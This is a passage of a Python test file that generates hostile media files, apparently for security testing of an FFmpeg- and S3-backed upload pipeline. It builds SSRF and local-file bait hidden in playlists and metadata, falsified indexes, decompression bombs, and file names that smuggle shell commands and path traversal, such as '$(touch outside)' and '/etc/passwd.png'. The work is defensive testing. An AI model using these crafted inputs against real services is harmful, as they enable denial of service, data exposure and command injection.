    link = bait.url.encode()
    body = b"\2\0\nonMetaData\x08\xff\xff\xff\xff\0\3url\2" + struct.pack(">H", len(link)) + link
    body += b"\0\tkeyframes\3\0\5times\x0a\xff\xff\xff\xff" + bytes(9)
    tag = b"\x12" + len(body).to_bytes(3) + bytes(7) + body
    content = _own()["flv1.flv"]
    return content[:13] + tag + struct.pack(">I", len(tag)) + content[13:]


def _many_pids(_: Bait) -> bytes:
    """A transport stream in which each packet has its own stream."""
    packets = b"".join(
        b"G" + struct.pack(">HB", 0x4000 | pid, 0x10) + b"\0\0\1\xe0\0\0\x80\0\0" + bytes(175)
        for pid in range(32, 4096)
    )
    return packets + _own()["h264.ts"]


def _compressed_header(_: Bait) -> bytes:
    """A compressed movie header that expands to a hundred times the limit."""
    moved = box(b"cmvd", struct.pack(">I", len(_BOMB)), _packed_bomb())
    return _FTYP + box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), moved))


def _film_with(more: Make) -> Make:
    return lambda bait: movie(more=more(bait))


_LINKED = (
    element(0x73A4, bytes(range(16))) + element(0x3CB923, bytes(16)) + element(0x3EB923, b"\1" * 16)
)
_FAR = struct.pack("<4sIII", b"00db", 0x10, 0xFFFFFFF0, 0x7FFFFFFF)

CARRIERS: dict[str, Make] = {
    # Playlists behind the first bytes of accepted formats.
    **{f"head/{name}.mp4": _after(head) for name, head in _HEADS.items()},
    "head/idat.png": lambda b: png(png_chunk(b"tEXt", b"x\0" + _both(b))) + _both(b),
    "head/trailer.jpg": lambda b: saved("JPEG") + _both(b) + _zip(b),
    "head/script.gif": lambda b: b"GIF89a/*" + saved("GIF")[8:] + b"*/=1;fetch('" + b.url.encode(),
    # Metadata of images.
    "told/exif.jpg": lambda b: saved("JPEG", exif=_exif(b)),
    "told/exif-loop.jpg": _jpeg_segment(0xE1, _exif_loop),
    "told/exif-far.jpg": _jpeg_segment(
        0xE1, _same(b"Exif\0\0" + tiff([(0x0112, 3, 2**31, 2**31), (0x8769, 4, 1, 2**32 - 1)]))
    ),
    "told/xmp.jpg": _jpeg_segment(0xE1, lambda b: b"http://ns.adobe.com/xap/1.0/\0" + _xmp(b)),
    "told/xmp-more.jpg": _jpeg_segment(
        0xE1, lambda b: b"http://ns.adobe.com/xmp/extension/\0" + bytes(40) + _xmp(b)
    ),
    "told/flashpix.jpg": _jpeg_segment(0xE2, lambda b: b"FPXR\0\0\1\0\1" + b.file.encode()),
    "told/photoshop.jpg": _jpeg_segment(
        0xED, lambda b: b"Photoshop 3.0\x008BIM\4\x0b\0\0\0\0\0\xff" + b.url.encode()
    ),
    "told/other-pictures.jpg": _jpeg_segment(
        0xE2, _same(b"MPF\0" + tiff([(0xB001, 4, 1, 9), (0xB002, 7, 2**31, 2**31)]))
    ),
    "told/profile.jpg": _jpeg_segment(0xE2, _same(b"ICC_PROFILE\0\1\xff" + b"\xff" * 300)),
    "told/comment.jpg": _jpeg_segment(0xFE, lambda b: b.file.encode()),
    "told/xmp.png": lambda b: png(
        png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + _xmp(b)),
        png_chunk(b"tEXt", b"Source\0" + b.file.encode()),
        png_chunk(b"eXIf", _exif(b)[6:]),
    ),
    "told/xmp.webp": lambda b: saved("WEBP", xmp=_xmp(b), exif=_exif(b)),
    "told/xmp.avif": lambda b: saved("AVIF", xmp=_xmp(b), exif=_exif(b)),
    "told/tags.tif": _tiff_tags,
    "told/comment.gif": lambda b: saved("GIF", comment=b.file.encode()),
    "told/elsewhere.avif": _same(_avif(reference=1)),
    "told/profile.png": _same(png(png_chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\xff" * 999)))),
    # Films whose data, or parts of it, are declared to be in another file.
    "film/plain.mov": _same(movie()),
    "film/plain.mkv": _same(matroska()),
    "film/plain.avi": _same(avi()),
    "film/url.mov": lambda b: movie(drefs=(box(b"url ", bytes(4), b.url.encode() + b"\0"),)),
    "film/file.mov": lambda b: movie(drefs=(box(b"url ", bytes(4), b.file.encode() + b"\0"),)),
    "film/urn.mov": lambda b: movie(drefs=(box(b"urn ", bytes(4), b"x\0" + b.url.encode()),)),
    "film/alias.mov": lambda b: movie(drefs=(_alias(b.secret),)),
    "film/resource.mov": lambda b: movie(drefs=(box(b"rsrc", bytes(4), b.secret.encode()),)),
    "film/reference.mov": lambda b: (
        _FTYP
        + box(b"moov", box(b"rmra", box(b"rmda", box(b"rdrf", bytes(4), b"url ", b.url.encode()))))
    ),
    "film/cover.mov": _film_with(
        lambda b: box(b"udta", box(b"meta", bytes(4), box(b"ilst", box(b"covr", b.file.encode()))))
    ),
    "film/licence.mov": _film_with(lambda b: box(b"pssh", bytes(20), b.url.encode())),
    "film/xmp.mov": _film_with(lambda b: box(b"udta", box(b"XMP_", _xmp(b)))),
    "film/chapters.mov": _same(movie(edits=box(b"tref", box(b"chap", struct.pack(">I", 1))))),
    "film/linked.mkv": lambda b: matroska(
        info=_LINKED + element(0x3C83AB, b.secret) + element(0x3E83BB, b.file),
        more=element(
            0x1043A770,
            element(
                0x45B9,
                element(0xB6, element(0x73C4, 1) + element(0x91, 0) + element(0x6E67, b"\1" * 16)),
            ),
        ),
    ),
    "film/attached.mkv": lambda b: matroska(
        more=element(
            0x1941A469,
            element(
                0x61A7,
                element(0x466E, "../.." + b.secret)
                + element(0x4660, "application/x-truetype-font")
                + element(0x46AE, 1)
                + element(0x465C, _both(b)),
            ),
        )
    ),
    "film/codec.mkv": lambda b: matroska(
        track=element(0x3A9697, b.secret) + element(0x3B4040, b.url) + element(0x26B240, b.url)
    ),
    "film/tags.mkv": lambda b: matroska(
        more=element(
            0x1254C367,
            element(0x7373, element(0x67C8, element(0x45A3, b.secret) + element(0x4487, b.url))),
        )
    ),
    "film/subtitles.avi": lambda b: _avi_with_subtitles(_both(b)),
    "film/concat.avi": lambda b: _avi_with_subtitles(_text("ffconcat version 1.0\nfile PATH")(b)),
    "film/xbin.avi": lambda b: _avi_with_subtitles(
        playlist("/dev/zero", b.secret, head="#EXT-X-KEY:METHOD=AES-128,URI=/dev/zero")
    ),
    "film/commands.wmv": _asf,
    "film/metadata.flv": _flv,
    "film/playlist.ts": lambda b: _own()["h264.ts"] + _both(b),
    "film/cover.ogv": lambda b: _own()["theora.ogv"].replace(b"encoder=", b"METADATA"),
    # False indexes and lengths.
    "lie/far-index.avi": _same(avi(index=chunk(b"idx1", _FAR * 500))),
    "lie/own-index.avi": _same(
        avi(super_index=chunk(b"indx", struct.pack("<HBBI4s12xQII", 4, 0, 0, 1, b"00db", 0, 99, 9)))
    ),
    "lie/many-indexes.avi": _same(
        avi(super_index=chunk(b"indx", struct.pack("<HBBI4s12x", 4, 0, 0, 2**31, b"00db")))
    ),
    "lie/rate.avi": _same(avi(rate=(0, 0))),
    "lie/fast.avi": _same(avi(rate=(1, 2**32 - 1))),
    "lie/slow.avi": _same(avi(rate=(2**32 - 1, 1))),
    "lie/scale.mkv": _same(matroska(scale=0)),
    "lie/scale-far.mkv": _same(matroska(scale=2**63)),
    "lie/duration.mkv": _same(matroska(info=element(0x4489, struct.pack(">d", float("inf"))))),
    "lie/duration-nan.mkv": _same(matroska(info=element(0x4489, struct.pack(">d", float("nan"))))),
    "lie/timescale-0.mov": _same(movie(timescale=0)),
    "lie/timescale-1.mov": _same(movie(timescale=1, ticks=1)),
    "lie/timescale-prime.mov": _same(movie(timescale=2**31 - 1, ticks=85_899_345)),
    "lie/timescale-far.mov": _same(movie(timescale=2**32 - 1, ticks=171_798_691)),
    "lie/hours.mov": _same(movie(timescale=1, ticks=20_000)),
    "lie/days.mov": _same(movie(timescale=1, ticks=2_000_000)),
    "lie/fast.mov": _same(movie(timescale=1_000_000, ticks=1)),
    "lie/no-time.mov": _same(movie(ticks=0)),
    "lie/wide-pixels.mov": _same(movie(entry=box(b"pasp", struct.pack(">II", 2**31 - 1, 1)))),
    "lie/high-pixels.mov": _same(movie(entry=box(b"pasp", struct.pack(">II", 1, 2**31 - 1)))),
    "lie/no-pixels.mov": _same(movie(entry=box(b"pasp", bytes(8)))),
    "lie/no-matrix.mov": _same(movie(matrix=bytes(36))),
    "lie/skewed.mov": _same(movie(matrix=struct.pack(">9I", *[0x7FFFFFFF] * 9))),
    "lie/edits.mov": _same(
        movie(
            edits=box(
                b"edts",
                box(b"elst", struct.pack(">4xI", 500), struct.pack(">IiI", 9, -1, 0x10000) * 500),
            )
        )
    ),
    "lie/samples.mov": _same(movie(samples=2_000_000)),
    "lie/many-samples.mov": _same(movie(samples=40_000_000)),
    "lie/all-samples.mov": _same(movie(samples=2**32 - 1)),
    "lie/aperture.mov": _same(movie(entry=box(b"clap", struct.pack(">8i", *[2**31 - 1] * 8)))),
    # Decompression bombs: few bytes that expand to too much.
    "bomb/wide.mov": _same(movie(size=(65535, 65535))),
    "bomb/none.mov": _same(movie(size=(0, 0))),
    "bomb/h264.mov": _same(movie(size=(16384, 16384), codec=b"avc1")),
    "bomb/tracks.mov": _same(movie(tracks=3000)),
    "bomb/header.mov": _compressed_header,
    "bomb/nested.mov": lambda _: (
        _FTYP + box(b"moov", b"".join(struct.pack(">I4s", 80000 - n, b"udta") for n in range(9999)))
    ),
    "bomb/streams.ts": _many_pids,
    "bomb/streams.ogv": lambda _: b"".join(
        ogg_page(n, b"\x80theora\3\2\1\0\1\0\1" + bytes(28)) for n in range(600)
    ),
    "bomb/size.avif": _same(_avif(size=(60_000, 60_000))),
    "bomb/size.png": _same(png(size=(65_500, 65_500))),
    "bomb/long-chunk.png": _same(png(b"\x7f\xff\xff\xfftEXtx\0" + b"y" * 99)),
    "bomb/text.png": lambda _: png(png_chunk(b"zTXt", b"x\0\0" + _packed_bomb())),
    "bomb/texts.png": lambda _: png(
        *[png_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(1_000_000)))] * 100
    ),
    "bomb/unicode.png": lambda _: png(png_chunk(b"iTXt", b"x\0\1\0\0\0" + _packed_bomb())),
    "bomb/profile.png": lambda _: png(png_chunk(b"iCCP", b"x\0\0" + _packed_bomb())),
    "bomb/chunks.png": lambda _: png(png_chunk(b"prIv", b"") * 20_000),
    "bomb/frames.png": lambda _: png(
        png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)),
        png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 16, 16, 0, 0, 1, 1, 0, 0)),
    ),
    "bomb/size.gif": _same(_big_gif()),
    "bomb/frames.gif": lambda _: _frames_gif(20_000),
    "bomb/size.bmp": _same(_bmp((2**31 - 1, 2**31 - 1))),
    "bomb/upside-down.bmp": _same(_bmp((16, -(2**31)))),
    "bomb/runs.bmp": _same(_bmp((9_000, 9_000), compression=1)),
    "bomb/size.webp": _same(
        chunk(b"RIFF", b"WEBP", chunk(b"VP8L", b"\x2f\xff\xff\xff\x0f" + bytes(30)))
    ),
    "bomb/canvas.webp": _same(
        chunk(b"RIFF", b"WEBP", chunk(b"VP8X", b"\2\0\0\0" + b"\xff" * 6), chunk(b"ANIM", bytes(6)))
    ),
    "bomb/size.tif": _same(_grey_tiff((2**31 - 1, 2**31 - 1), b"")),
    "bomb/loop.tif": _same(_grey_tiff((16, 16), bytes(256), after=8)),
    "bomb/rows.tif": _same(_grey_tiff((5000, 5000), bytes(9), rows=1)),
    "bomb/deflate.tif": lambda _: _grey_tiff((3000, 3000), _packed_bomb(), compression=8),
    "bomb/pages.tif": lambda _: _pages_tiff(20_000),
    "bomb/tags.tif": _same(b"II*\0\x08\0\0\0\xff\xff" + bytes(999)),
    "bomb/samples.tif": _same(
        tiff([(256, 4, 1, 16), (257, 4, 1, 16), (258, 3, 65535, 8), (277, 3, 1, 65535)])
    ),
    "bomb/scans.jpg": _many_scans,
    "bomb/size.jpg": lambda _: saved("JPEG").replace(b"\0\x40\0\x40", b"\xff\xdc\xff\xdc", 1),
    # Names with a meaning for FFmpeg, a shell, or a file system.
    **{
        name: _same(movie() if name.endswith(".mov") else saved("PNG"))
        for name in (
            "name/img%03d.png",
            "name/%s%n.mov",
            "-i.png",
            "name/-y",
            "concat:a.mov|b.png",
            "file:source.png",
            "subfile,,start,0,end,9,,:source.png",
            "http://127.0.0.1:1/a.mov",
            "pipe:0",
            "a/b/../../outside.png",  # S3 refuses keys that lead further up
            "/etc/passwd.png",
            "name/$(touch outside).png",
            "name/`touch outside`;|&.png",
            "name/a\nb'\"\\.png",
            "name/*?[a-z].png",
            "name/‮gnp.png",
        )
    },
}

ALL = {**REFUSED, **CARRIERS}
